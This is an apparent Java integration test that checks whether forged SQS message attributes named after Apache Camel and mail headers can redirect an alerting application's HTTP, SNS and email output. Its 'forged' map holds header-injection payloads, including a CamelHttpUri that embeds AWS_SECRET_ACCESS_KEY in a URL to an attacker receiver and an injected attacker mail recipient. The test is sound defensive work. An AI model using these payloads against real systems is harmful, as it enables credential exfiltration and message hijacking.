package org.spotalert;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import jakarta.mail.Message.RecipientType;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.camel.builder.RouteBuilder;
import org.apache.camel.impl.DefaultCamelContext;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.spotalert.local.AppProcess;
import org.spotalert.local.AwsWorld;
import org.spotalert.local.AwsWorld.Member;
import org.spotalert.local.Events;
import org.spotalert.local.FreePort;
import org.spotalert.local.MotoServer;
import org.spotalert.local.Variables;
import org.spotalert.local.WebhookReceiver;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.sqs.SqsClient;
import software.amazon.awssdk.services.sqs.model.Message;

/**
 * A message on the queue whose attributes have the names of Camel's own headers (CVE-2026-46456, -78164, -56140) or of mail headers:
 * they steer nothing, in no channel, not even in one that an operator has added and that removes no header.
 */
class ForgedAttributesIT {

    private static final Duration SOON = Duration.ofMinutes(2);

    private final MotoServer moto = MotoServer.start();
    private final AwsWorld aws = new AwsWorld(moto.endpoint());
    private final WebhookReceiver chat = WebhookReceiver.start(0);
    private final WebhookReceiver naive = WebhookReceiver.start(0);
    private final WebhookReceiver attacker = WebhookReceiver.start(0);
    private final GreenMail mail = new GreenMail(new ServerSetup(FreePort.find(), "127.0.0.1", "smtp"));
    private final Map<String, String> forged = Map.of(
            "CamelHttpUri", attacker.url() + "/{{env:AWS_SECRET_ACCESS_KEY}}",
            "CamelRestHttpUri", attacker.url() + "/rest",
            "CamelHttpPath", "/elsewhere",
            "CamelHttpMethod", "DELETE",
            "CamelAwsSnsSubject", "forged",
            "To", "attacker@example.org",
            "Cc", "attacker@example.org",
            "Subject", "forged",
            "mail.smtp.socks.host", "127.0.0.1",
            "mail.smtp.from", "attacker@example.org");

    @AfterEach
    void close() {
        mail.stop();
        Stream.of(chat, naive, attacker).forEach(WebhookReceiver::close);
        aws.close();
        moto.close();
    }

    /** That the attack is one: Camel's own components, used plainly, send the message where the attribute says. */
    @Test
    void attributesSteerARouteThatTakesThemAll() throws Exception {
        aws.plainQueue("plain");
        DefaultCamelContext camel = new DefaultCamelContext();
        try (SqsClient sqs = sqs()) {
            camel.getRegistry().bind("sqs", sqs);
            camel.addRoutes(new RouteBuilder() {
                @Override
                public void configure() {
                    from("aws2-sqs:plain?amazonSQSClient=#sqs&messageAttributeNames=All&attributeNames=All")
                            .to(chat.url() + "/right");
                }
            });
            camel.start();
            aws.send("plain", "hello", Map.of("CamelHttpUri", attacker.url() + "/wrong"));

            await("attack").atMost(SOON).until(() -> attacker.naming("hello") == 1);
            assertThat(chat.accepted()).isEmpty();
        } finally {
            camel.stop();
        }
    }

    private SqsClient sqs() {
        return SqsClient.builder()
                .endpointOverride(URI.create(moto.endpoint().toString()))
                .region(Region.of(AwsWorld.REGION))
                .credentialsProvider(StaticCredentialsProvider.create(AwsBasicCredentials.create("local", "local")))
                .build();
    }

    @Test
    void attributesSteerNothing(@TempDir Path directory) throws Exception {
        mail.start();
        aws.queue("spot", 3);
        aws.cluster("blue");
        Member member = aws.members("blue", 1).get(0);
        aws.tasks(member, "family:web", 1);
        try (AppProcess program = AppProcess.start(settings(directory), directory.resolve("program.log"))) {
            program.awaitReady();
            aws.send("spot", Events.now("interruption-warning-terminate", member.instanceId()), forged);

            await("alerts")
                    .atMost(SOON)
                    .until(() -> chat.naming(member.instanceId()) == 1
                            && !naive.accepted().isEmpty()
                            && mail.getReceivedMessages().length == 1);
            MimeMessage mailed = mail.getReceivedMessages()[0];
            assertThat(mailed.getRecipients(RecipientType.TO))
                    .extracting(Object::toString)
                    .containsExactly("on-call@example.org");
            assertThat(mailed.getRecipients(RecipientType.CC)).isNull();
            assertThat(mailed.getSubject()).contains("Spot reclaim in blue").doesNotContain("forged");
            Message published = await("topic")
                    .atMost(SOON)
                    .until(() -> aws.messages("alerts"), all -> !all.isEmpty())
                    .get(0);
            assertThat(published.body() + published.messageAttributes())
                    .contains(member.instanceId())
                    .doesNotContain("forged", "CamelHttpUri", "attacker", "local");
            assertThat(attacker.accepted()).isEmpty();
            await("log").atMost(SOON).until(() -> program.output().contains("alert sent"));
            assertThat(program.output()).doesNotContain("attacker");
        }
    }

    private Map<String, String> settings(Path directory) throws IOException {
        Path routes = directory.resolve("routes");
        try (Stream<Path> files = Files.walk(Path.of("routes"))) {
            for (Path file : (Iterable<Path>) files::iterator) {
                Path copy = routes.resolve(Path.of("routes").relativize(file).toString());
                if (Files.isDirectory(file)) {
                    Files.createDirectories(copy);
                } else {
                    Files.copy(file, copy);
                }
            }
        }
        Files.writeString(routes.resolve("channels/naive.camel.yaml"), """
                - route:
                    id: channel-naive
                    group: channel
                    from:
                      uri: direct:channel-naive
                      steps:
                        - setBody:
                            constant: an alert
                        - to:
                            uri: "%s/right"
                """.formatted(naive.url()));
        Map<String, String> settings = new HashMap<>(Variables.aws(moto.endpoint()));
        settings.putAll(Variables.sns(aws.topic("alerts")));
        settings.putAll(Variables.googleChat(Integer.parseInt(chat.url().replaceAll(".*:", ""))));
        settings.putAll(Map.of(
                "SPOT_ROUTES", routes.toString(),
                "ENABLE_EMAIL", "true",
                "SMTP_HOST", "127.0.0.1",
                "SMTP_PORT", String.valueOf(mail.getSmtp().getPort()),
                "SMTP_TLS", "none",
                "EMAIL_FROM", "spot@example.org",
                "EMAIL_TO", "on-call@example.org"));
        return settings;
    }

    /** CVE-2026-33454, -59230, -85314: they need a route that receives mail or unpacks MIME, and there is none. */
    @Test
    void noRouteReceivesMailOrUnpacksMime() throws IOException {
        try (Stream<Path> files = Files.walk(Path.of("routes"))) {
            List<Path> all = files.filter(Files::isRegularFile).toList();
            assertThat(all)
                    .hasSizeGreaterThan(20)
                    .allSatisfy(file -> assertThat(Files.readString(file))
                            .doesNotContainIgnoringCase("imap", "pop3", "mimeMultipart", "mime-multipart"));
        }
    }
}
